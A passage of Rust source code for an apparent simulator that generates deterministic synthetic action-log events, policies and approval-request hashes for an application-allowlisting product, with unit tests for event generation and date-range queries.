        let policy = if action_id == 1 {
            (
                guid(self.config.seed, ns::POLICY, e.app as u64),
                format!("Permit {}", app.name),
            )
        } else {
            (
                guid(self.config.seed, ns::POLICY, 999),
                "Default - Deny".to_owned(),
            )
        };
        ActionLogRowOut {
            action_log_id: e.action_log_id,
            e_action_log_id: guid(self.config.seed, ns::EVENT, e.action_log_id as u64),
            organization_id: org.id.clone(),
            organization_name: org.display_name.clone(),
            computer_id: comp.id.clone(),
            hostname: comp.name.clone(),
            username: e.user.clone(),
            date_time: e.time.to_rfc3339_opts(SecondsFormat::Millis, true),
            full_path,
            process_path: e.parent.map(str::to_owned),
            created_by_process: e.parent.map(str::to_owned),
            parent_process_name: e
                .parent
                .and_then(|p| p.rsplit('\\').next())
                .map(str::to_owned),
            hash: app.hash.clone(),
            sha256_hash: app.sha256.clone(),
            cert: app.cert.map(str::to_owned),
            action_type: e.action_type,
            action_id,
            action,
            is_monitor_mode: monitor,
            policy_id: policy.0,
            policy_name: policy.1,
            application_id: app.known.then(|| app.id.clone()),
            application_name: app.known.then_some(app.name),
            application_is_built_in: app.known.then_some(app.built_in),
            option_to_request: matches!(
                e.kind,
                EventKind::Block {
                    option_to_request: true
                }
            ),
            os_type: 1,
            data: e.data.clone(),
        }
    }

    /// The file hashes `(sha256, legacy hash)` of an approval request. A request for an
    /// application that is blocked in the data (AnyDesk, the unknown binaries) is for that very
    /// file; a request for an application that runs permitted everywhere (Chrome, Zoom, ...) is
    /// for a new version of it, with its own hash — nobody requests a file already allowed.
    pub fn approval_hashes(&self, a: &SimApproval) -> (String, String) {
        let app = &self.apps[a.app];
        let blocked = matches!(
            a.app,
            app::ANYDESK
                | app::UTORRENT
                | app::PDFSETUP
                | app::INVOICE
                | app::CHROMESETUP
                | app::FIREFOXSETUP
        );
        if blocked {
            (app.sha256.clone(), app.hash.clone())
        } else {
            let label = format!("{} update for {}", app.name, a.id);
            (
                fake_sha256(&label),
                fake_sha256(&format!("md5:{label}"))[..32].to_owned(),
            )
        }
    }

    /// Index of the organization with this id (case-insensitive).
    pub fn org_index(&self, id: &str) -> Option<usize> {
        self.orgs.iter().position(|o| o.id.eq_ignore_ascii_case(id))
    }
}

fn partition(n: u64, pred: impl Fn(u64) -> bool) -> u64 {
    let (mut lo, mut hi) = (0u64, n);
    while lo < hi {
        let mid = lo + (hi - lo) / 2;
        if pred(mid) {
            lo = mid + 1;
        } else {
            hi = mid;
        }
    }
    lo
}

/// The events of one organization in a time range, addressable by position.
#[derive(Debug)]
pub struct OrgEvents<'a> {
    ds: &'a Dataset,
    org: usize,
    gen: std::ops::Range<u64>,
    story: Vec<usize>,
}

impl OrgEvents<'_> {
    /// How many.
    pub fn len(&self) -> u64 {
        (self.gen.end - self.gen.start) + self.story.len() as u64
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The event at position `i` (< `len()`).
    pub fn get(&self, i: u64) -> Option<SimEvent> {
        let gen_len = self.gen.end - self.gen.start;
        if i < gen_len {
            Some(self.ds.generated_event(self.org, self.gen.start + i))
        } else {
            let s = *self.story.get((i - gen_len) as usize)?;
            self.ds.story[self.org].get(s).cloned()
        }
    }
}

/// An action-log row as the simulator sends it (camelCase, the API's field names).
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
#[allow(missing_docs)]
pub struct ActionLogRowOut {
    pub action_log_id: i64,
    pub e_action_log_id: String,
    pub organization_id: String,
    pub organization_name: String,
    pub computer_id: String,
    pub hostname: String,
    pub username: String,
    pub date_time: String,
    pub full_path: String,
    pub process_path: Option<String>,
    pub created_by_process: Option<String>,
    pub parent_process_name: Option<String>,
    pub hash: String,
    pub sha256_hash: String,
    pub cert: Option<String>,
    pub action_type: &'static str,
    pub action_id: i32,
    pub action: &'static str,
    pub is_monitor_mode: bool,
    pub policy_id: String,
    pub policy_name: String,
    pub application_id: Option<String>,
    pub application_name: Option<&'static str>,
    pub application_is_built_in: Option<bool>,
    pub option_to_request: bool,
    pub os_type: i32,
    pub data: Option<String>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn now() -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2026-05-14T12:00:00Z")
            .unwrap()
            .with_timezone(&Utc)
    }

    #[test]
    fn generation_is_deterministic_and_bounded_by_the_window() {
        let a = Dataset::generate(SimConfig::demo(now()));
        let b = Dataset::generate(SimConfig::demo(now()));
        // Four client organizations and the MSP's own (last, same id as the parent).
        assert_eq!(a.orgs.len(), 5);
        assert_eq!(a.home, Some(4));
        assert_eq!(a.orgs[4].id, a.parent.id);
        let total: u64 = (0..5).map(|o| a.generated_count(o)).sum();
        assert_eq!(total, 600);
        for o in 0..5 {
            for k in [0, 17, a.generated_count(o) - 1] {
                let (ea, eb) = (a.generated_event(o, k), b.generated_event(o, k));
                assert_eq!(a.row(&ea).e_action_log_id, b.row(&eb).e_action_log_id);
                assert!(ea.time > now() - Duration::hours(24) && ea.time < now());
            }
        }
    }

    #[test]
    fn date_ranges_select_exactly_the_events_inside() {
        let ds = Dataset::generate(SimConfig::scale(3, 3000, now()));
        let from = now() - Duration::hours(6);
        let to = now() - Duration::hours(1);
        for o in 0..3 {
            let r = ds.generated_range(o, from, to);
            let brute = (0..ds.generated_count(o))
                .filter(|&k| {
                    let t = ds.generated_time(o, k);
                    t >= from && t <= to
                })
                .count() as u64;
            assert_eq!(r.end - r.start, brute);
            assert!(brute > 150 && brute < 260, "{brute}");
        }
    }

    #[test]
    fn ids_are_unique() {
        let ds = Dataset::generate(SimConfig::scale(20, 20_000, now()));
        let mut ids = std::collections::HashSet::new();
        for o in 0..20 {
            let ev = ds.events_in(o, now() - Duration::hours(25), now());
            for i in 0..ev.len() {
                assert!(ids.insert(ev.get(i).unwrap().action_log_id));
            }
        }
        assert_eq!(ids.len(), 20_000);
        let guids: std::collections::HashSet<_> =
            ds.computers.iter().map(|c| c.id.clone()).collect();
        assert_eq!(guids.len(), ds.computers.len());
    }
}
